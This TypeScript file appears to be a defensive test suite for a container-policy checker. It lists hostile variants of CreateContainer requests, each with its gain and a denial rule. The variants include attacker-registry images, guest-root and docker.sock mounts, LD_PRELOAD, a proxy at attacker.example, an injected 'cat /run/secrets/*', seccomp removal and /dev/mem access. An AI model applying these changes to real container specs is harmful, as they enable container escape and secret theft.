/**
 * Hostile variants of CreateContainer: what a host that wants into the pod would change in the OCI
 * spec and in the request around it.
 */
import type { Json } from '#wire';
import { append, listAt, put, putNew, textAt, valueAt } from './edit.ts';
import type { Chance, Mutation } from './mutation.ts';

type Change = Mutation['change'];
type Row = Omit<Mutation, 'endpoint' | 'class'>;

const IMAGE_KEYS = ['io.kubernetes.cri.image-name', 'io.kubernetes.cri-o.ImageName'] as const;

/** The image's reference is in the storage that the guest pulls, and in an annotation. */
const withImage =
  (rename: (reference: string, chance: Chance) => string): Change =>
  (input, chance) => {
    let changed = input;
    const at = listAt(input, 'storages').findIndex(
      (storage) => textAt(storage, 'driver') === 'image_guest_pull',
    );
    const source = `storages.${at}.source`;
    if (at >= 0) changed = put(changed, source, rename(textAt(input, source), chance));
    const annotations = valueAt(input, 'OCI.Annotations');
    for (const key of IMAGE_KEYS) {
      const value = (annotations as Readonly<Record<string, Json>> | null)?.[key];
      if (typeof value === 'string')
        changed = putNew(changed, 'OCI.Annotations', key, rename(value, chance));
    }
    return changed;
  };

const set =
  (path: string, value: Json): Change =>
  (input) =>
    put(input, path, value);

const add =
  (path: string, value: Json): Change =>
  (input) =>
    append(input, path, value);

const chain =
  (...changes: readonly Change[]): Change =>
  (input, chance) =>
    changes.reduce((changed, change) => change(changed, chance), input);

const mount = (
  destination: string,
  source: string,
  type_ = 'bind',
  options: readonly string[] = ['rbind', 'rw'],
): Change => add('OCI.Mounts', { destination, source, type_, options });

/** Changes the first element of a list that `choose` finds. */
const changeItem =
  (
    path: string,
    choose: (item: Json) => boolean,
    change: (item: Json, chance: Chance) => Json,
  ): Change =>
  (input, chance) => {
    const at = listAt(input, path).findIndex(choose);
    const item = listAt(input, path)[at];
    return item === undefined ? input : put(input, `${path}.${at}`, change(item, chance));
  };

const optionsOf = (item: Json): readonly Json[] => listAt(item, 'options');

const env = (variable: string): Change => add('OCI.Process.Env', variable);

const PRIVILEGES = ['CAP_SYS_ADMIN', 'CAP_SYS_PTRACE', 'CAP_SYS_MODULE', 'CAP_NET_ADMIN'];
const capability = (sets: readonly string[], names: readonly string[]): Change =>
  chain(
    ...sets.flatMap((name) => names.map((cap) => add(`OCI.Process.Capabilities.${name}`, cap))),
  );
const EFFECTIVE = ['Bounding', 'Effective', 'Permitted'];

const unmask = set('OCI.Linux.MaskedPaths', []);
const unlock = set('OCI.Linux.ReadonlyPaths', []);
const allDevices = add('OCI.Linux.Resources.Devices', {
  Allow: true,
  Type: 'a',
  Major: -1,
  Minor: -1,
  Access: 'rwm',
});
const memoryDevice = add('OCI.Linux.Devices', {
  Type: 'c',
  Path: '/dev/mem',
  Major: 1,
  Minor: 1,
  FileMode: 0o666,
  UID: 0,
  GID: 0,
});
const noSeccomp: Change = (input) =>
  valueAt(input, 'OCI.Linux.Seccomp') === null ? input : put(input, 'OCI.Linux.Seccomp', null);
const openSeccomp = set('OCI.Linux.Seccomp', {
  DefaultAction: 'SCMP_ACT_ALLOW',
  Architectures: [],
  Flags: [],
  Syscalls: [],
});

const OTHER_CODE = 'code of the attacker runs next to the pod’s secrets';
const READS_GUEST = 'files of the guest or of other containers';
const MORE_RIGHTS = 'more rights over the guest’s kernel than the pod needs';

const CLASSES: Readonly<Partial<Record<Mutation['class'], readonly Row[]>>> = {
  image: [
    {
      name: 'other-image',
      gain: OTHER_CODE,
      deny: 'compare the image_guest_pull storage’s source with the image’s whole reference',
      change: withImage(() => 'registry.attacker.example/backdoor:latest'),
    },
    {
      name: 'other-digest',
      gain: OTHER_CODE,
      deny: 'compare the source with the digest included',
      change: withImage((reference, chance) =>
        reference.includes('@sha256:')
          ? reference.replace(/@sha256:.*$/, `@sha256:${chance.hex(64)}`)
          : `${reference}@sha256:${chance.hex(64)}`,
      ),
    },
    {
      name: 'other-tag',
      gain: 'an older image, with its known holes, runs instead',
      deny: 'pin images by digest and compare the whole reference',
      change: withImage((reference) => `${reference.replace(/[:@].*$/, '')}:0.0.1`),
    },
    {
      name: 'longer-name',
      gain: OTHER_CODE,
      deny: 'compare with ==, or anchor the pattern with ^ and $',
      change: withImage((reference) => `registry.attacker.example/${reference}`),
    },
  ],
  mount: [
    {
      name: 'guest-root',
      gain: READS_GUEST,
      deny: 'allow only mounts that the container has in the pod, by destination and source',
      change: mount('/host', '/'),
    },
    {
      name: 'docker-socket',
      gain: 'commands to a container engine, where there is one',
      deny: 'allow only mounts that the container has in the pod',
      change: mount('/var/run/docker.sock', '/var/run/docker.sock'),
    },
    {
      name: 'proc-writable',
      gain: 'kernel settings of the guest through /proc/sys',
      deny: 'allow only mounts that the container has in the pod, with their options',
      change: mount('/host/proc', 'proc', 'proc', ['rw']),
    },
    {
      name: 'sysfs-writable',
      gain: 'devices and kernel settings through /sys',
      deny: 'compare the options of every mount with the recorded ones',
      change: changeItem(
        'OCI.Mounts',
        (item) => textAt(item, 'type_') === 'sysfs' && optionsOf(item).includes('ro'),
        (item) => put(item, 'options', [...optionsOf(item).filter((one) => one !== 'ro'), 'rw']),
      ),
    },
    {
      name: 'read-only-lost',
      gain: 'what the pod only reads can be changed',
      deny: 'compare the options of every mount with the recorded ones',
      change: changeItem(
        'OCI.Mounts',
        (item) => textAt(item, 'type_') === 'bind' && optionsOf(item).includes('ro'),
        (item) => put(item, 'options', [...optionsOf(item).filter((one) => one !== 'ro'), 'rw']),
      ),
    },
    {
      name: 'source-moved',
      gain: READS_GUEST,
      deny: 'bind the source to the container: compare it with a pattern that has its id in it',
      change: changeItem(
        'OCI.Mounts',
        (item) => textAt(item, 'type_') === 'bind',
        (item) => put(item, 'source', '/run/confidential-containers'),
      ),
    },
    {
      name: 'files-of-another-container',
      gain: 'secrets and volumes of another container',
      deny: 'bind the source to the container: its id must be the request’s',
      change: changeItem(
        'OCI.Mounts',
        (item) => textAt(item, 'source').startsWith('/run/kata-containers/shared/containers/'),
        (item, chance) =>
          put(
            item,
            'source',
            textAt(item, 'source').replace(/[0-9a-f]{64}/, () => chance.hex(64)),
          ),
      ),
    },
    {
      name: 'over-a-binary',
      gain: OTHER_CODE,
      deny: 'allow only the recorded destinations',
      change: mount('/bin/sh', '/run/kata-containers/shared/containers/sh'),
    },
    {
      name: 'destination-moved',
      gain: 'configuration of the pod disappears or covers programs',
      deny: 'compare destination and source together, and count the mounts',
      change: changeItem(
        'OCI.Mounts',
        (item) => textAt(item, 'type_') === 'bind',
        (item) => put(item, 'destination', '/usr/bin'),
      ),
    },
    {
      name: 'shared-mount',
      gain: 'another container’s file system',
      deny: 'require shared_mounts to be empty',
      change: add('shared_mounts', {
        name: 'x',
        src_ctr: 'other',
        src_path: '/',
        dst_ctr: 'this',
        dst_path: '/other',
      }),
    },
  ],
  storage: [
    {
      name: 'extra-storage',
      gain: 'the host’s files appear anywhere in the guest',
      deny: 'count the storages and compare each with the recorded ones',
      change: add('storages', {
        driver: 'virtio-fs',
        driver_options: [],
        source: 'kataShared',
        fstype: 'virtiofs',
        options: [],
        mount_point: '/etc',
        fs_group: null,
        shared: true,
      }),
    },
    {
      name: 'mount-point-moved',
      gain: 'an image or volume covers files of the guest',
      deny: 'compare mount_point with the path that the container’s id gives',
      change: changeItem(
        'storages',
        () => true,
        (item) => put(item, 'mount_point', '/usr'),
      ),
    },
    {
      name: 'driver-options',
      gain: 'the volume comes unencrypted or with the host’s key',
      deny: 'compare driver_options with the recorded ones',
      change: changeItem(
        'storages',
        () => true,
        (item) => put(item, 'driver_options', ['encryption_key=file:///run/attacker']),
      ),
    },
    {
      name: 'group-changed',
      gain: 'files of the volume belong to another group',
      deny: 'compare fs_group with the recorded value',
      change: changeItem(
        'storages',
        () => true,
        (item) => put(item, 'fs_group', { group_id: 0, group_change_policy: 0 }),
      ),
    },
  ],
  env: [
    {
      name: 'preload',
      gain: OTHER_CODE,
      deny: 'allow only recorded variables, by name and value',
      change: env('LD_PRELOAD=/tmp/attacker.so'),
    },
    {
      name: 'proxy',
      gain: 'the pod’s traffic goes through the attacker',
      deny: 'allow only recorded variables, by name and value',
      change: env('HTTPS_PROXY=http://attacker.example:3128'),
    },
    {
      name: 'path-changed',
      gain: OTHER_CODE,
      deny: 'compare the value of PATH',
      change: changeItem(
        'OCI.Process.Env',
        (item) => typeof item === 'string' && item.startsWith('PATH='),
        () => 'PATH=/tmp/attacker:/usr/bin',
      ),
    },
    {
      name: 'variable-twice',
      gain: 'the last value wins over the one that was checked',
      deny: 'count the names: each variable once',
      change: (input) => {
        const [first] = listAt(input, 'OCI.Process.Env');
        return typeof first === 'string' ? append(input, 'OCI.Process.Env', first) : input;
      },
    },
    {
      name: 'value-changed',
      gain: 'configuration of the workload is the attacker’s',
      deny: 'compare the values of all variables',
      change: changeItem(
        'OCI.Process.Env',
        (item) => typeof item === 'string' && !/^(?:PATH|HOSTNAME|KUBERNETES_)/.test(item),
        (item) => (typeof item === 'string' ? item.replace(/=.*$/s, '=attacker') : item),
      ),
    },
    {
      name: 'variable-lost',
      gain: 'a setting that protects the workload is gone',
      deny: 'require every recorded variable',
      change: (input) =>
        put(input, 'OCI.Process.Env', listAt(input, 'OCI.Process.Env').slice(0, -1)),
    },
  ],
  args: [
    {
      name: 'other-command',
      gain: OTHER_CODE,
      deny: 'compare Args with the recorded list',
      change: set('OCI.Process.Args', ['/bin/sh', '-c', 'cat /run/secrets/*']),
    },
    {
      name: 'argument-more',
      gain: 'the workload runs with options of the attacker',
      deny: 'compare Args as a whole, with its length',
      change: add('OCI.Process.Args', '--attacker'),
    },
    {
      name: 'argument-longer',
      gain: 'the workload runs with options of the attacker',
      deny: 'compare with ==, or anchor the pattern with ^ and $',
      change: (input) => {
        const at = listAt(input, 'OCI.Process.Args').length - 1;
        const last = textAt(input, `OCI.Process.Args.${at}`);
        return put(input, `OCI.Process.Args.${at}`, `${last}; cat /run/secrets/*`);
      },
    },
    {
      name: 'argument-lost',
      gain: 'a protective option is gone',
      deny: 'compare Args as a whole, with its length',
      change: (input) =>
        put(input, 'OCI.Process.Args', listAt(input, 'OCI.Process.Args').slice(0, -1)),
    },
    {
      name: 'other-directory',
      gain: 'relative paths of the workload lead elsewhere',
      deny: 'compare Cwd',
      change: set('OCI.Process.Cwd', '/tmp/attacker'),
    },
    {
      name: 'terminal',
      gain: 'input can be typed into the workload',
      deny: 'compare Terminal',
      change: (input) =>
        put(input, 'OCI.Process.Terminal', valueAt(input, 'OCI.Process.Terminal') !== true),
    },
  ],
  user: [
    {
      name: 'uid',
      gain: 'the workload runs as root, or as somebody else',
      deny: 'compare User.UID',
      change: (input) =>
        put(
          input,
          'OCI.Process.User.UID',
          valueAt(input, 'OCI.Process.User.UID') === 0 ? 65534 : 0,
        ),
    },
    {
      name: 'gid',
      gain: 'files of another group',
      deny: 'compare User.GID',
      change: (input) =>
        put(
          input,
          'OCI.Process.User.GID',
          valueAt(input, 'OCI.Process.User.GID') === 0 ? 65534 : 0,
        ),
    },
    {
      name: 'groups',
      gain: 'files of another group',
      deny: 'compare AdditionalGids with the recorded ones',
      change: add('OCI.Process.User.AdditionalGids', 4711),
    },
    {
      name: 'username',
      gain: 'the image’s own user table decides who runs it',
      deny: 'require Username to be empty',
      change: set('OCI.Process.User.Username', 'root'),
    },
    {
      name: 'string-user',
      gain: 'the image’s own user table decides who runs it',
      deny: 'require string_user to be null',
      change: set('string_user', { uid: 'root', gid: 'root', additionalGids: [] }),
    },
    {
      name: 'no-new-privileges-off',
      gain: 'set-uid programs give root',
      deny: 'compare NoNewPrivileges',
      change: (input) =>
        valueAt(input, 'OCI.Process.NoNewPrivileges') === true
          ? put(input, 'OCI.Process.NoNewPrivileges', false)
          : input,
    },
  ],
  capability: [
    {
      name: 'sys-admin',
      gain: MORE_RIGHTS,
      deny: 'compare the capability sets with the recorded ones',
      change: capability(EFFECTIVE, ['CAP_SYS_ADMIN']),
    },
    {
      name: 'without-prefix',
      gain: MORE_RIGHTS,
      deny: 'compare the sets as they are spelled, or strip CAP_ on both sides',
      change: capability(EFFECTIVE, ['SYS_ADMIN']),
    },
    {
      name: 'ambient',
      gain: 'programs that lose their rights on exec keep them',
      deny: 'compare Ambient and Inheritable, too',
      change: capability(['Ambient', 'Inheritable'], ['CAP_NET_ADMIN']),
    },
    {
      name: 'bounding',
      gain: 'a set-uid program may raise its rights',
      deny: 'compare Bounding, too',
      change: capability(['Bounding'], ['CAP_SYS_MODULE']),
    },
  ],
  privileged: [
    {
      name: 'privileged',
      gain: 'every device and every right: the container is the guest',
      deny: 'compare capabilities, devices, masked and read-only paths and seccomp',
      change: chain(capability(EFFECTIVE, PRIVILEGES), unmask, unlock, allDevices, noSeccomp),
    },
    {
      name: 'masked-paths-gone',
      gain: 'kernel memory and keys under /proc and /sys',
      deny: 'require every recorded masked path',
      change: unmask,
    },
    {
      name: 'readonly-paths-gone',
      gain: 'kernel settings under /proc can be written',
      deny: 'require every recorded read-only path',
      change: unlock,
    },
    {
      name: 'seccomp-gone',
      gain: 'every system call',
      deny: 'compare Seccomp with the recorded profile',
      change: noSeccomp,
    },
    {
      name: 'seccomp-open',
      gain: 'every system call, under a profile that allows it',
      deny: 'compare Seccomp with the recorded profile, or require null',
      change: openSeccomp,
    },
    {
      name: 'apparmor-unconfined',
      gain: 'the profile no longer confines the workload',
      deny: 'compare ApparmorProfile',
      change: set('OCI.Process.ApparmorProfile', 'unconfined'),
    },
    {
      name: 'selinux-label',
      gain: 'the label no longer confines the workload',
      deny: 'require SelinuxLabel to be empty, or compare it',
      change: set('OCI.Process.SelinuxLabel', 'system_u:system_r:spc_t:s0'),
    },
    {
      name: 'sysctl',
      gain: 'a core pattern runs a program of the attacker',
      deny: 'allow only recorded sysctls, by name and value',
      change: (input) =>
        putNew(input, 'OCI.Linux.Sysctl', 'kernel.core_pattern', '|/tmp/attacker %P'),
    },
    {
      name: 'rlimit',
      gain: 'the workload starves the guest, or dies early',
      deny: 'compare Rlimits',
      change: add('OCI.Process.Rlimits', { Type: 'RLIMIT_CORE', Hard: 1_000_000, Soft: 1_000_000 }),
    },
    {
      name: 'oom-score',
      gain: 'the kernel kills the guest’s own services first',
      deny: 'compare OOMScoreAdj, or bound it from below',
      change: (input) =>
        valueAt(input, 'OCI.Process.OOMScoreAdj') === -1000
          ? input
          : put(input, 'OCI.Process.OOMScoreAdj', -1000),
    },
  ],
  device: [
    {
      name: 'memory-device',
      gain: 'the guest’s memory',
      deny: 'compare Linux.Devices with the recorded ones',
      change: memoryDevice,
    },
    {
      name: 'all-devices',
      gain: 'every device of the guest',
      deny: 'require Resources.Devices to be empty',
      change: allDevices,
    },
    {
      name: 'attached-device',
      gain: 'a device of the host’s choice appears in the container',
      deny: 'compare devices with the recorded ones',
      change: add('devices', {
        id: 'attacker',
        type_: 'blk',
        vm_path: '/dev/vda',
        container_path: '/dev/disk',
        options: [],
      }),
    },
  ],
  namespace: [
    {
      name: 'joined',
      gain: 'a namespace shared with the guest’s own processes',
      deny: 'require every namespace’s Path to be the recorded one',
      change: changeItem(
        'OCI.Linux.Namespaces',
        (item) => textAt(item, 'Type') !== 'network',
        (item) => put(item, 'Path', `/proc/1/ns/${textAt(item, 'Type')}`),
      ),
    },
    {
      name: 'lost',
      gain: 'the container lives in the guest’s own namespace',
      deny: 'compare the set of namespace types',
      change: (input) =>
        put(input, 'OCI.Linux.Namespaces', listAt(input, 'OCI.Linux.Namespaces').slice(0, -1)),
    },
    {
      name: 'pid-shared',
      gain: 'sees and traces processes of the other containers',
      deny: 'compare sandbox_pidns',
      change: (input) => put(input, 'sandbox_pidns', valueAt(input, 'sandbox_pidns') !== true),
    },
    {
      name: 'user-mapping',
      gain: 'root of the guest is root of the container',
      deny: 'require UIDMappings and GIDMappings to be empty',
      change: add('OCI.Linux.UIDMappings', { HostID: 0, ContainerID: 0, Size: 4294967295 }),
    },
    {
      name: 'host-name',
      gain: 'the workload believes to be another pod',
      deny: 'compare Hostname with the pod’s name',
      change: set('OCI.Hostname', 'attacker'),
    },
    {
      name: 'cgroup-moved',
      gain: 'limits of another pod, or none',
      deny: 'compare CgroupsPath with a pattern that has the container’s id in it',
      change: set('OCI.Linux.CgroupsPath', '/'),
    },
  ],
  root: [
    {
      name: 'guest-root',
      gain: 'the guest’s own file system is the container’s',
      deny: 'compare Root.Path with the path that the container’s id gives',
      change: set('OCI.Root.Path', '/'),
    },
    {
      name: 'root-of-another',
      gain: 'another container’s files',
      deny: 'compare Root.Path with the path that the container’s id gives',
      change: (input, chance) =>
        put(
          input,
          'OCI.Root.Path',
          textAt(input, 'OCI.Root.Path').replace(/[0-9a-f]{64}/, () => chance.hex(64)),
        ),
    },
    {
      name: 'root-writable',
      gain: 'the workload’s programs can be changed',
      deny: 'compare Root.Readonly',
      change: (input) =>
        valueAt(input, 'OCI.Root.Readonly') === true
          ? put(input, 'OCI.Root.Readonly', false)
          : input,
    },
    {
      name: 'propagation',
      gain: 'mounts of the container reach the guest',
      deny: 'allow only the recorded RootfsPropagation',
      change: set('OCI.Linux.RootfsPropagation', 'shared'),
    },
  ],
  hook: [
    {
      name: 'hook',
      gain: 'a program runs in the guest, outside of the container',
      deny: 'require Hooks to be null',
      change: set('OCI.Hooks', {
        Prestart: [{ Path: '/tmp/attacker', Args: [], Env: [], Timeout: 0 }],
        Poststart: [],
        Poststop: [],
        CreateRuntime: [],
        CreateContainer: [],
        StartContainer: [],
      }),
    },
  ],
  identity: [
    {
      name: 'foreign-sandbox',
      gain: 'a container of another pod joins this one',
      deny: 'keep the sandbox id in the state and compare it',
      change: (input, chance) =>
        Object.hasOwn((valueAt(input, 'OCI.Annotations') as object | null) ?? {}, SANDBOX_ID)
          ? putNew(input, 'OCI.Annotations', SANDBOX_ID, chance.hex(64))
          : input,
    },
    {
      name: 'foreign-namespace',
      gain: 'the pod acts in another namespace',
      deny: 'compare the namespace annotation',
      change: (input) =>
        Object.hasOwn((valueAt(input, 'OCI.Annotations') as object | null) ?? {}, NAMESPACE)
          ? putNew(input, 'OCI.Annotations', NAMESPACE, 'kube-system')
          : input,
    },
    {
      name: 'unknown-annotation',
      gain: 'settings for the agent and for other tools',
      deny: 'allow only known annotations',
      change: (input) =>
        putNew(input, 'OCI.Annotations', 'io.katacontainers.config.attacker', 'true'),
    },
    {
      name: 'id-with-a-path',
      gain: 'paths made of the id lead elsewhere',
      deny: 'compare container_id with an anchored pattern',
      change: set('container_id', '../attacker'),
    },
    {
      name: 'stdio-port',
      gain: 'the container’s input and output go to the host',
      deny: 'require stdin_port, stdout_port and stderr_port to be 0',
      change: (input) => put(put(input, 'stdin_port', 9999), 'stdout_port', 9998),
    },
  ],
};

const SANDBOX_ID = 'io.kubernetes.cri.sandbox-id';
const NAMESPACE = 'io.kubernetes.cri.sandbox-namespace';

export const containerMutations: readonly Mutation[] = Object.entries(CLASSES).flatMap(
  ([name, rows]) =>
    rows.map((row) => ({
      ...row,
      class: name as Mutation['class'],
      endpoint: 'CreateContainerRequest',
    })),
);
